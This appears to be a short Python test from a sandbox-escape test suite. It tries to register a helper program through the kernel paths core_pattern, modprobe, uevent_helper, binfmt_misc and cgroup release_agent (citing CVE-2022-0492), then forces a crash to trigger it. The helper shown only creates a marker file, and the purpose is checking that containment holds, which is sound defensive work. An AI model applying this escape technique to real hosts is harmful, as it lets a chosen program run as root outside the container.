"""Name a program of its own that the kernel runs as root: on a crash, for a module, for a device, for a format.

origin: core_pattern, modprobe, uevent_helper, binfmt_misc, release_agent (CVE-2022-0492)
stopped by: /proc/sys masked, no /sys, no capability
control: none: it would run on the host
"""

import os
import signal

from attempt import attempt, unless_null

program = "/tmp/attack-helper"
open(program, "w").write("#!/bin/sh\ntouch /tmp/attack-was-run\n")
os.chmod(program, 0o755)
for path, text in {
    "/proc/sys/kernel/core_pattern": f"|{program} %p",
    "/proc/sys/kernel/modprobe": program,
    "/proc/sys/kernel/poweroff_cmd": program,
    "/proc/sys/kernel/usermodehelper/bset": "4294967295 4294967295",
    "/sys/kernel/uevent_helper": program,
    "/proc/sys/fs/binfmt_misc/register": f":attack:M::xx::{program}:C",
    "/sys/fs/cgroup/release_agent": program,
    "/sys/fs/cgroup/memory/release_agent": program,
}.items():
    with attempt(path):
        with open(path, "w") as file:
            unless_null(file.fileno())
            file.write(text)
if os.fork() == 0:
    os.kill(os.getpid(), signal.SIGSEGV)
os.wait()
